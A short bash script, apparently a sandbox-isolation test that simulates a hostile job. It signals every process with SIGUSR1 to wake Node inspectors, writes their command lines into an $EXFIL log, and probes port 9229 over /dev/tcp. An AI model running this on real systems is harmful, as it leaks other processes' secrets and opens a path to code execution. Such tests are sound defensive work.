#!/bin/bash
# A hostile job sends SIGUSR1 to every process it can, the Node handler among them, then looks
# for an inspector listening on 9229.
for dir in /proc/[0-9]*; do
  pid=${dir#/proc/}
  [ "$pid" = "$$" ] && continue
  kill -USR1 "$pid" 2>/dev/null && echo "signalled $pid $(tr '\0' ' ' < "$dir/cmdline" | cut -c1-300)" >> "$EXFIL/sigusr1"
done
sleep 2
if grep -qi ':2405 .* 0A ' /proc/net/tcp /proc/net/tcp6 2>/dev/null; then echo "inspector: listening" >> "$EXFIL/sigusr1"; fi
if (exec 3<>/dev/tcp/127.0.0.1/9229) 2>/dev/null; then echo "inspector: connected" >> "$EXFIL/sigusr1"; fi
echo "done" >> "$EXFIL/sigusr1"
exit 0
